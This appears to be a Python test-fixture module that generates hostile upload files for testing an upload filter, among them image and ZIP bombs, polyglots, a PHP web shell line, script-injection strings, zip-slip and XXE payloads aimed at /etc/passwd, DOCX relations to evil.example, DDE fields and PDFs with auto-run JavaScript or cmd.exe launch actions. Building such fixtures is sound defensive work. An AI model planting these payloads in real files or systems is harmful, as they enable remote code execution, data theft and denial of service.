"""Files that nobody should be able to upload: those that are shared, and those that are made here."""

from __future__ import annotations

import io
import os
import random
import stat
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from PIL import Image, PngImagePlugin

SHARED = Path(__file__).resolve().parents[2].parent / "shared/data/hostile/uploads"
SCRIPT = b"<script>alert(document.domain)</script>"
PHP = b"<?php system($_GET['c']); ?>"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def picture(kind="JPEG", size=(64, 48), mode="RGB", **how):
    """A small picture with something on it."""
    out = io.BytesIO()
    image = Image.new(mode, size)
    if mode in {"RGB", "RGBA"}:
        image.paste((200, 30, 30), (0, 0, size[0] // 2, size[1] // 2))
    image.save(out, format=kind, **how)
    return out.getvalue()


def chunk(kind, body):
    """One chunk of a PNG."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_flood(width, height, depth=8, colour=2):
    """A PNG of a few bytes that promises this many pixels."""
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + chunk(b"IEND", b"")
    )


def jpeg_flood():
    """A JPEG whose header says 65,500 by 65,500."""
    data = bytearray(picture())
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", 65500, 65500)
    return bytes(data)


def webp_flood():
    """A WebP whose header says 16,383 by 16,383."""
    data = bytearray(picture("WEBP", lossless=False))
    at = data.index(b"\x9d\x01\x2a")
    data[at + 3 : at + 7] = struct.pack("<HH", 16383, 16383)
    return bytes(data)


def scans(number):
    """A progressive JPEG whose last pass is repeated, so that decoding it takes long."""
    data = picture(size=(2000, 2000), progressive=True)
    start = data.rindex(b"\xff\xda")
    return data[:-2] + data[start:-2] * number + data[-2:]


def moving(kind):
    """A picture of two frames."""
    out = io.BytesIO()
    frames = [Image.new("RGB", (40, 40), colour) for colour in ("red", "blue")]
    frames[0].save(out, format=kind, save_all=True, append_images=frames[1:], duration=100)
    return out.getvalue()


def exif(**more):
    """EXIF with a place, and with whatever else is wanted."""
    tags = Image.Exif()
    tags[0x010E] = SCRIPT.decode()
    tags.get_ifd(0x8825)[1], tags.get_ifd(0x8825)[2] = "N", (54.0, 34.0, 10.0)
    for number, value in more.get("tags", {}).items():
        tags[number] = value
    return tags.tobytes()


def png_text():
    """A PNG with a script in every text chunk there is, and one in a chunk of nobody's."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", SCRIPT.decode())
    info.add_text("XML:com.adobe.xmp", "<x:xmpmeta><exif:GPSLatitude>54,34N</exif:GPSLatitude></x:xmpmeta>")
    info.add_text("Description", SCRIPT.decode(), zip=True)
    info.add(b"prIV", SCRIPT)
    return picture("PNG", pnginfo=info, exif=exif())


def zipped(files, *, links=(), compress=zipfile.ZIP_DEFLATED):
    """An archive of these files."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compress) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
        for name, target in links:
            entry = zipfile.ZipInfo(name)
            entry.create_system, entry.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
            archive.writestr(entry, target)
    return out.getvalue()


def docx_parts(**more):
    """A small document of Word's, by a named author, with one link."""
    return {
        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.wordprocessingml.document.main+xml"/></Types>',
        "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>',
        "word/document.xml": f'<w:document xmlns:w="{WORD}"><w:body><w:ins w:author="Pat Person"/><w:p><w:r>'
        "<w:t>Hello</w:t></w:r></w:p></w:body></w:document>",
        "docProps/core.xml": '<cp:coreProperties xmlns:cp="a" xmlns:dc="b"><dc:creator>Pat Person</dc:creator>'
        "</cp:coreProperties>",
        **more,
    }


def docx(**more):
    """The same, packed."""
    return zipped(docx_parts(**more))


def relation(kind, target):
    """A part that fetches something from elsewhere."""
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"'
        f' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"'
        ' TargetMode="External"/></Relationships>'
    )


def odt_parts(**more):
    """A small OpenDocument text."""
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    return {
        "mimetype": "application/vnd.oasis.opendocument.text",
        "content.xml": f'<office:document-content xmlns:office="{office}"/>',
        "meta.xml": "<m xmlns:dc='b'><dc:creator>Pat Person</dc:creator></m>",
        **more,
    }


def pdf(inside=b"", after=b""):
    """A small PDF."""
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog " + inside + b" >>\nendobj\ntrailer\n<<>>\n%%EOF" + after


def locked():
    """An archive whose first file is marked as encrypted."""
    data = bytearray(docx())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.index(signature)
        data[at + offset] |= 1
    return bytes(data)


def images():
    """Name → bytes of hostile pictures that are made here."""
    noise = random.Random(1).randbytes
    return {
        "flood.png": png_flood(50_000, 50_000),
        "flood-1bit.png": png_flood(200_000, 200_000, 1, 0),
        "just-over.png": png_flood(6400, 6300),
        "flood.jpg": jpeg_flood(),
        "flood.webp": webp_flood(),
        "flat-16-million.png": picture("PNG", (4000, 4000)),
        "flat-40-million.jpg": picture("JPEG", (7000, 5700)),
        "flat-16-million-passes.jpg": picture("JPEG", (4000, 4000), progressive=True),
        "flat-8-million.webp": picture("WEBP", (2820, 2820), method=0),
        "scans.jpg": scans(2000),
        "nine-megabytes.jpg": picture() + noise(9 * 1024 * 1024),
        "html.jpg": b"<html><body>" + SCRIPT + b"</body></html>",
        "svg-in-png.png": b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
        "vector.svg": b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
        "php.php.jpg": PHP,
        "shell.php": picture() + PHP,
        "gif.gif": picture("GIF", mode="P"),
        "gif-header.jpg": b"GIF89a/*" + picture() + b"*/=1;" + SCRIPT,
        "png-named.jpg": picture("PNG"),
        "bmp-named.png": picture("BMP"),
        "tiff-named.jpg": picture("TIFF"),
        "pdf-named.jpg": pdf(),
        "empty.png": b"",
        "head-only.png": b"\x89PNG\r\n\x1a\n",
        "cut-off.jpg": picture(size=(800, 600))[:-900],
        "cut-off.png": picture("PNG", (800, 600))[:600],
        "cut-off.webp": picture("WEBP", (800, 600))[:60],
        "html-behind.jpg": picture() + SCRIPT,
        "php-behind.png": picture("PNG") + PHP,
        "zip-behind.jpg": picture() + docx(),
        "comment.jpg": picture(comment=SCRIPT + PHP),
        "exif.jpg": picture(exif=exif()),
        "exif.webp": picture("WEBP", exif=exif(), xmp=b"<x><exif:GPSLatitude>54</exif:GPSLatitude></x>"),
        "exif.avif": picture("AVIF", exif=exif()),
        "exif-60-kB.jpg": picture(exif=exif(tags={0x9286: "A" * 60_000})),
        "text.png": png_text(),
        "profile-5-MB.png": picture("PNG", icc_profile=noise(5_000_000)),
        "profile-nonsense.jpg": picture(icc_profile=SCRIPT * 40),
        "moving.webp": moving("WEBP"),
        "moving.png": moving("PNG"),
        "moving.avif": moving("AVIF"),
        "two-in-one.jpg": moving("MPO"),
        "four-inks.jpg": picture(mode="CMYK"),
        "sixteen-bits.png": picture("PNG", mode="I;16"),
        "turned-too-far.jpg": picture(exif=exif(tags={0x0112: 99})),
        "a" * 300 + ".jpg": picture(),
        "holiday\u202egpj.exe": picture(),
        "..\\..\\windows.png": picture("PNG") + PHP,
    }


def documents():
    """Name → bytes of hostile documents that are made here."""
    rels = "word/_rels/document.xml.rels"
    inner = zipped({"zeros": b"\0" * 200_000_000})
    types = docx_parts()["[Content_Types].xml"]
    return {
        "zip-200-MB.docx": docx(**{"word/media/a.xml": inner, "zeros.xml": b"\0" * 200_000_000}),
        "zip-in-zip.odt": zipped(odt_parts(**{"inner.zip": inner})),
        "slip.docx": docx(**{"../../../../etc/cron.d/x.xml": "<a/>"}),
        "slip-absolute.odt": zipped(odt_parts(**{"/etc/passwd": "x"})),
        "slip-windows.docx": docx(**{"word\\..\\..\\x.xml": "<a/>"}),
        "link.docx": zipped(docx_parts(), links=[("word/footer1.xml", "<a/>")]),
        "10000-files.docx": docx(**{f"word/{n}.xml": "<a/>" for n in range(10_000)}),
        "twice.docx": docx() + b"PK\x03\x04",
        "locked.docx": locked(),
        "macro.docx": docx(**{"word/vbaProject.bin": b"x"}),
        "macro-type.docx": docx(
            **{"[Content_Types].xml": types.replace("document.main", "document.macroEnabled.main")}
        ),
        "embedded.docx": docx(**{"word/embeddings/sheet.xlsx": zipped({})}),
        "control.docx": docx(**{"word/activeX/a.xml": "<a/>"}),
        "template.docx": docx(**{rels: relation("attachedTemplate", "http://evil.example/a.dotm")}),
        "picture-elsewhere.docx": docx(**{rels: relation("image", "http://evil.example/pixel.png")}),
        "script-link.docx": docx(**{rels: relation("hyperlink", "javascript:alert(1)")}),
        "dde.docx": docx(
            **{"word/footer.xml": f'<w:f xmlns:w="{WORD}"><w:instrText>DDEAUTO c:\\a</w:instrText></w:f>'}
        ),
        "entities.docx": docx(
            **{
                "word/a.xml": '<!DOCTYPE a [<!ENTITY b "lol">'
                + '<!ENTITY c "&b;&b;&b;">' * 5
                + "]><a>&c;</a>"
            }
        ),
        "outside-entity.docx": docx(**{"word/a.xml": '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'}),
        "place-in-picture.docx": docx(**{"word/media/image1.jpeg": picture(exif=exif())}),
        "flood-in-picture.docx": docx(**{"word/media/image1.png": png_flood(50_000, 50_000)}),
        "script-in-drawing.docx": docx(**{"word/media/image1.svg": SCRIPT}),
        "sheet-named.docx": zipped({"[Content_Types].xml": "<a/>", "xl/workbook.xml": "<a/>"}),
        "odt-named.docx": zipped(odt_parts()),
        "macro.odt": zipped(odt_parts(**{"Basic/Standard/a.xml": "<a/>"})),
        "listener.odt": zipped(
            odt_parts(**{"content.xml": "<o xmlns:script='urn:s'><script:event-listener script:l='a'/></o>"})
        ),
        "elsewhere.odt": zipped(
            odt_parts(
                **{
                    "content.xml": "<o xmlns:xlink='x'><image xlink:type='simple' xlink:href='http://evil.example/'/></o>"
                }
            )
        ),
        "no-zip.docx": b"PK\x03\x04" + os.urandom(500),
        "word-97.docx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "script.pdf": pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        "script-escaped.pdf": pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        "script-packed.pdf": pdf(
            b">>\nstream\n" + zlib.compress(b"<< /S /JavaScript /JS (app.alert(1)) >>") + b"\nendstream <<"
        ),
        "launch.pdf": pdf(b"/A << /S /Launch /F (cmd.exe) >>"),
        "bomb.pdf": pdf(
            b"".join(
                b"\nstream\n" + zlib.compress(b"\0" * 50_000_000, 9) + b"\nendstream" for _ in "12345678"
            )
        ),
        "html.pdf": b"<html>" + SCRIPT + pdf(),
        "zip-behind.pdf": pdf(after=docx()),
        "html-behind.pdf": pdf(after=SCRIPT),
        "page.txt": b"<!DOCTYPE html><body>" + SCRIPT,
        "shell.txt": PHP,
        "bytes.txt": b"MZ\x90\x00\x03" + os.urandom(300),
        "turned.txt": "Pay the \u202eelohw sum".encode(),
        "page.html": SCRIPT,
        "eleven-megabytes.txt": b"A" * (11 * 1024 * 1024),
        "b" * 300 + ".txt": b"Hello",
    }


def shared():
    """Name → bytes of the hostile files that are shared between projects."""
    if not SHARED.is_dir():
        pytest.fail(f"{SHARED} is not there.")
    return {path.name: path.read_bytes() for path in sorted(SHARED.iterdir())}
